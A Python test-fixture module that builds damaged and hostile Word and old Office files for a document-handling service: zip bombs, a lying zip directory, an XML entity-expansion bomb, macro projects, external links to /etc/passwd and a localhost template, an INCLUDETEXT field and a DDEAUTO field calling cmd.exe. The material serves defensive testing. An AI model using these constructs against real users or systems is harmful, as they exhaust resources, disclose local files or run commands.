"""Office files that are damaged, swollen or up to something; parts of ``make_bad_files``."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

MOMENT = (2027, 1, 1, 0, 0, 0)
TYPES, RELS, DOCUMENT = "[Content_Types].xml", "_rels/.rels", "word/document.xml"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_PR = "http://schemas.openxmlformats.org/package/2006/relationships"
_OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
Parts = dict[str, str | bytes]


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    """Return the parts as a zip: the same parts give the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, MOMENT)
            entry.compress_type, entry.create_system = zipfile.ZIP_DEFLATED, 0
            archive.writestr(entry, content)
    return out.getvalue()


def word_parts(body: str, main: str = _MAIN, more: str = "") -> Parts:
    """Return the least that Word opens: a body in a document (ECMA-376 part 1, 11.2)."""
    return {
        TYPES: f'<?xml version="1.0"?><Types xmlns="{_CT}">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{DOCUMENT}" ContentType="{main}"/>{more}</Types>',
        RELS: f'<?xml version="1.0"?><Relationships xmlns="{_PR}">'
        f'<Relationship Id="rId1" Type="{_OD}/officeDocument" Target="{DOCUMENT}"/>'
        "</Relationships>",
        DOCUMENT: f'<?xml version="1.0"?><w:document xmlns:w="{_W}" xmlns:r="{_OD}">'
        f"<w:body>{body}</w:body></w:document>",
    }


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def honest() -> bytes:
    return zipped(word_parts(paragraph("Stuk voor de vergadering.")))


def zip_bomb() -> bytes:
    """Return a Word file whose directory says that it unpacks to 4 GB."""
    parts = word_parts(paragraph("Stuk")) | {"word/media/image1.bmp": bytes(2**20)}
    content = bytearray(zipped(parts))
    place = content.rindex(b"PK\x01\x02")  # the last entry of the directory (APPNOTE, 4.3.12)
    struct.pack_into("<L", content, place + 24, 2**32 - 2)
    return bytes(content)


def zip_lie() -> bytes:
    """Return a Word file of which a part is 40 MB and the directory says 1 kB."""
    parts = word_parts(paragraph("Stuk")) | {"word/styles.xml": bytes(40 * 2**20)}
    content = bytearray(zipped(parts))
    struct.pack_into("<L", content, content.rindex(b"PK\x01\x02") + 24, 1024)
    return bytes(content)


def entity_bomb() -> bytes:
    """Return a Word file whose text unfolds to ten thousand million words."""
    lines = ['<!ENTITY a0 "lol">']
    lines += [f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(10)]
    parts = word_parts(paragraph("&a10;"))
    start, _, rest = str(parts[DOCUMENT]).partition("?>")
    parts[DOCUMENT] = f"{start}?><!DOCTYPE w:document [{''.join(lines)}]>{rest}"
    return zipped(parts)


def with_macros(main: str) -> bytes:
    """Return a Word file with a project of macros, under either content type."""
    parts = word_parts(paragraph("Stuk"), main)
    rels = f'<Relationship Id="rId1" Type="{_VBA}" Target="vbaProject.bin"/>'
    parts["word/_rels/document.xml.rels"] = f'<Relationships xmlns="{_PR}">{rels}</Relationships>'
    return zipped(parts | {"word/vbaProject.bin": ole(("_VBA_PROJECT", "dir", "ThisDocument"))})


_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def looks_elsewhere() -> bytes:
    """Return a Word file with linked pictures, a linked text and a template from elsewhere."""
    targets = {
        "rId1": ("image", "file:///etc/passwd"),
        "rId2": ("image", "http://127.0.0.1:9/plaatje.png"),
        "rId3": ("attachedTemplate", "http://127.0.0.1:9/kwaad.dotm"),
        "rId4": ("subDocument", "file:///etc/passwd"),
    }
    field = (
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "><w:r><w:t>tekst</w:t>'
        "</w:r></w:fldSimple></w:p>"
    )
    command = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe /k "/></w:p>'
    body = paragraph("Stuk met verwijzingen.") + _linked("rId1") + _linked("rId2") + field
    parts = word_parts(body + command + '<w:subDoc r:id="rId4"/>')
    parts["word/_rels/document.xml.rels"] = _external(targets)
    return zipped(parts)


def _external(targets: Mapping[str, tuple[str, str]]) -> str:
    rels = "".join(
        f'<Relationship Id="{name}" Type="{_OD}/{kind}" Target="{target}" TargetMode="External"/>'
        for name, (kind, target) in targets.items()
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_PR}">{rels}</Relationships>'


def _linked(name: str) -> str:
    """Return a paragraph with a picture that is not in the file (VML, as old Word writes it)."""
    return (
        '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:90pt;'
        f'height:90pt"><v:imagedata r:id="{name}"/></v:shape></w:pict></w:r></w:p>'
    )


def broken() -> bytes:
    """Return a Word file whose text stops halfway: LibreOffice makes nothing and says it went well."""
    parts = word_parts(paragraph("Stuk"))
    parts[DOCUMENT] = str(parts[DOCUMENT])[:-40] + "<w:p><w:r"
    return zipped(parts)


def truncated() -> bytes:
    """Return a Word file of which the end, with its directory, is missing."""
    content = honest()
    return content[: content.index(b"PK\x01\x02") - 20]


# -- old Office ----------------------------------------------------------------------------------

_SECTOR = 512
_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole(streams: tuple[str, ...] = ()) -> bytes:
    """Return a compound file with these names in its directory, all empty (MS-CFB, 2)."""
    entries = [_entry("Root Entry", 5, 1 if streams else _FREE)]
    entries += [_entry(name, 2, _FREE, _next(n, streams)) for n, name in enumerate(streams, 1)]
    size = -(-len(entries) * 128 // _SECTOR) * _SECTOR
    directory = b"".join(entries).ljust(size, b"\0")
    sectors = size // _SECTOR
    chain = [_FAT, *range(2, sectors + 1), _END]
    fat = struct.pack("<128L", *chain, *[_FREE] * (128 - len(chain)))
    return _ole_head() + fat + directory


def _next(number: int, streams: tuple[str, ...]) -> int:
    return number + 1 if number < len(streams) else _FREE


def _ole_head() -> bytes:
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16)
    head += struct.pack("<5H6x4L", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0)
    head += struct.pack("<5L", 4096, _END, 0, _END, 0) + struct.pack("<109L", 0, *[_FREE] * 108)
    return head.ljust(_SECTOR, b"\0")


def _entry(name: str, kind: int, child: int, right: int = _FREE) -> bytes:
    text = name.encode("utf-16-le")
    head = text.ljust(64, b"\0") + struct.pack("<HBB", len(text) + 2, kind, 1)
    return (head + struct.pack("<3L", _FREE, right, child)).ljust(116, b"\0") + struct.pack(
        "<LQ", _END, 0
    )


OFFICES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "word-zipbom": ("stuk.docx", zip_bomb),
    "word-zip-liegt": ("stuk.docx", zip_lie),
    "word-entiteitenbom": ("stuk.docx", entity_bomb),
    "word-macros-docm": ("stuk.docm", lambda: with_macros(_MACRO)),
    "word-macros-docx": ("stuk.docx", lambda: with_macros(_MAIN)),
    "word-verwijst-naar-buiten": ("stuk.docx", looks_elsewhere),
    "word-tekst-stuk": ("stuk.docx", broken),
    "word-afgekapt": ("stuk.docx", truncated),
    "word-oud-macros": ("stuk.doc", lambda: ole(("WordDocument", "Macros", "_VBA_PROJECT"))),
    "word-oud-leeg": ("stuk.doc", ole),
    "pdf-is-word": ("stuk.pdf", honest),
}
"""Case → the name of its attachment and what makes it."""

# -- templates of a customer ---------------------------------------------------------------------


def template(source: Path, name: str, old: str, new: str) -> bytes:
    """Return our own Word template with a piece of one part replaced."""
    with zipfile.ZipFile(source) as archive:
        parts = {entry: archive.read(entry) for entry in archive.namelist()}
    text = parts[name].decode()
    if old not in text:
        raise ValueError(f"{old!r} is not in {name}")
    return zipped({**parts, name: text.replace(old, new, 1)})
